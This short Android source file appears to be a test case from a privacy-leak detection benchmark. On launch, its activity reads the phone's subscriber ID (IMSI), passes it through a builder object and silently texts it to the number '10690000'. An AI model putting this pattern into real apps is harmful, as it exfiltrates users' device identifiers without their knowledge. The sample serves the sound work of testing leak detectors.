package cn.privlens.suite.builder_chain;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static final class Query {
        final String host;
        final String body;
        private Query(Builder b) {
            host = b.host;
            body = b.body;
        }
        static final class Builder {
            private String host = "";
            private String body = "";
            Builder host(String h) {
                host = h;
                return this;
            }
            Builder body(String b) {
                body = b;
                return this;
            }
            Query build() { return new Query(this); }
        }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Query query = new Query.Builder().host("api.example.cn").body(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId()).build();
        SmsManager.getDefault().sendTextMessage("10690000", null, query.body, null, null);
    }
}
